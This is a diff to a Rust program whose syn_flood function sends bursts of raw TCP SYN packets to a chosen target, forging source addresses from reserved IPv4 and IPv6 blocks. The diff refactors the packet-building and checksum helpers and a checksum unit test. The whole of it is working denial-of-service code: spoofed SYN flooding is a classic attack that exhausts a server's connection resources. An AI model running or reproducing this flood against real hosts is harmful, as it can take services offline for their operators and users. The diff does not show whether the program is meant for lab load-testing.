@@ -20,12 +20,8 @@ const TCP_LEN: u8 = 20;
 /// # Errors
 /// When the kernel refuses one.
 pub fn syn_flood(target: SocketAddr, count: u32) -> anyhow::Result<()> {
-    let socket = Socket::new(
-        Domain::for_address(target),
-        Type::RAW,
-        Some(Protocol::from(RAW)),
-    )
-    .context("failed to open a raw socket")?;
+    let socket = Socket::new(Domain::for_address(target), Type::RAW, Some(Protocol::from(RAW)))
+        .context("failed to open a raw socket")?;
     // The kernel takes the destination from the header; the port must be 0 for IPv6.
     let to = SocketAddr::new(target.ip(), 0).into();
     let mut numbers = Numbers(0x9e37_79b9_7f4a_7c15);
@@ -44,29 +40,23 @@ pub fn syn_flood(target: SocketAddr, count: u32) -> anyhow::Result<()> {
 
 /// A SYN from a made-up address.
 fn syn(target: SocketAddr, random: u64) -> Vec<u8> {
-    let [a, b, c, d, e, f, g, h] = random.to_be_bytes();
+    let [words @ .., low] = [48, 32, 16, 0].map(|shift| low_word(random >> shift));
+    let [port, high, middle] = words;
     let mut tcp = Vec::with_capacity(usize::from(TCP_LEN));
-    tcp.extend([a | 0x80, b]);
+    tcp.extend((port | 0x8000).to_be_bytes());
     tcp.extend(target.port().to_be_bytes());
-    tcp.extend([c, d, e, f, 0, 0, 0, 0]);
-    tcp.extend([TCP_LEN / 4 << 4, 0x02, 0xff, 0xff, 0, 0, 0, 0]);
+    tcp.extend(high.to_be_bytes());
+    tcp.extend(middle.to_be_bytes());
+    // No acknowledgement; five words of header, SYN, a large window; no checksum yet.
+    tcp.extend([0, 0, 0, 0, 0x50, 0x02, 0xff, 0xff, 0, 0, 0, 0]);
     let (mut packet, source) = match target.ip() {
         IpAddr::V4(to) => {
-            // TEST-NET-2 and the benchmarking block: nobody's.
-            let source = Ipv4Addr::new(198, 18 | (f & 1), g, h);
+            // Of the block for benchmarks, 198.18.0.0/15: nobody's.
+            let source = Ipv4Addr::from(0xc612_0000 | u32::from(middle & 1) << 16 | u32::from(low));
             (v4_header(source, to, TCP, TCP_LEN.into()), IpAddr::V4(source))
         }
         IpAddr::V6(to) => {
-            let source = Ipv6Addr::new(
-                0x2001,
-                0xdb8,
-                0xffff,
-                u16::from_be_bytes([c, d]),
-                0,
-                0,
-                u16::from_be_bytes([e, f]),
-                u16::from_be_bytes([g, h]),
-            );
+            let source = Ipv6Addr::new(0x2001, 0xdb8, 0xffff, high, 0, 0, middle, low);
             (v6_header(source, to, TCP, TCP_LEN.into()), IpAddr::V6(source))
         }
     };
@@ -143,6 +133,11 @@ fn v6_header(source: Ipv6Addr, destination: Ipv6Addr, next: u8, payload: u16) ->
     header
 }
 
+fn low_word(number: u64) -> u16 {
+    let [.., high, low] = number.to_be_bytes();
+    u16::from_be_bytes([high, low])
+}
+
 /// RFC 9293 section 3.1: over the pseudo-header and the segment.
 fn transport_checksum(source: IpAddr, destination: IpAddr, protocol: u8, segment: &[u8]) -> u16 {
     let mut bytes = Vec::new();
@@ -191,7 +186,10 @@ mod tests {
     #[test]
     fn checksum_of_a_known_header() {
         // The example of RFC 1071 section 3.
-        assert_eq!(checksum(&[0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7]), !0xddf2);
+        assert_eq!(
+            checksum(&[0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7]),
+            !0xddf2
+        );
     }
 
     #[test]
